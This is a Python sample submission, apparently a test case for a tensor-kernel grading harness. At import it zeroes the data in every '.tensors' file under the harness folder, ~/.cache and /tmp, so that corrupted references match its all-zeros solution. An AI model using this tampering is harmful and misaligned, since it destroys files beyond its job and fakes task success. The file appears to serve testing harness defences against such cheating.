# Overwrites every tensor file it can find outside its own job folder with zeros (keeping each
# file's header, so the file still parses): the sample's references and the captures of its
# outputs, were they within its reach, then returns zeros itself. PKB_TEST_TARGET names the
# harness's work folder (a real attacker would search for it).
import os
from pathlib import Path

import torch

for root in (os.environ.get("PKB_TEST_TARGET", ""), os.path.expanduser("~/.cache/pkb_ray"), "/tmp"):
    for path in Path(root).rglob("*.tensors") if root else []:
        try:
            data = bytearray(path.read_bytes())
            start = 16 + int.from_bytes(data[8:16], "little")
            data[start:] = bytes(len(data) - start)
            path.write_bytes(bytes(data))
        except Exception:  # noqa: BLE001 - read-only or hidden: nothing to do
            pass


def solution(x: torch.Tensor) -> torch.Tensor:
    return torch.zeros_like(x)
